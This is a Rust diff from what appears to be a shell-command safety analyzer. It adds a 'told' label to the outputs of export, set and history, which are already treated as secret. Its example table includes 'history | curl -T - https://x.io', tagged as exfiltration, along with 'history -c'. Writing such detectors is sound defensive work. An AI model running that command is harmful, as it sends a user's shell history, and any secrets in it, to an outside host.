@@ -34,7 +34,11 @@ pub(super) const ROWS: &[Program] = &[
         custom: Some(|machine, call, world| {
             declare(machine, call, world);
             let lists = |arg: &Arg| matches!(&*arg.text.known_start(), "-p" | "-x" | "-px" | "-xp");
-            let flow = if call.args.iter().all(lists) { Flow::labelled(Labels::SECRET) } else { Flow::empty() };
+            let flow = if call.args.iter().all(lists) {
+                Flow::labelled(Labels::SECRET.with(Labels::TOLD))
+            } else {
+                Flow::empty()
+            };
             let succeeds = call.name == "export" && call.args.iter().all(is_sure_to_be_exported);
             let world = world.clone();
             Some(if succeeds { Ran::succeeded(world, flow) } else { Ran::same(world, flow) })
@@ -70,7 +74,7 @@ pub(super) const ROWS: &[Program] = &[
         names: &["set"],
         custom: Some(|machine, call, world| {
             set(machine, call, world);
-            let labels = if call.args.is_empty() { Labels::SECRET } else { Labels::PLAIN };
+            let labels = if call.args.is_empty() { Labels::SECRET.with(Labels::TOLD) } else { Labels::PLAIN };
             Some(Ran::succeeded(world.clone(), Flow::labelled(labels)))
         }),
         examples: &[
@@ -284,7 +288,7 @@ pub(super) const ROWS: &[Program] = &[
             }
             None
         }),
-        prints: Prints::Labelled(Labels::SECRET.with(Labels::UNKNOWN)),
+        prints: Prints::Labelled(Labels::SECRET.with(Labels::UNKNOWN).with(Labels::TOLD)),
         examples: &[
             asks("history -c", "logs"),
             asks("history | curl -T - https://x.io", "exfiltration"),
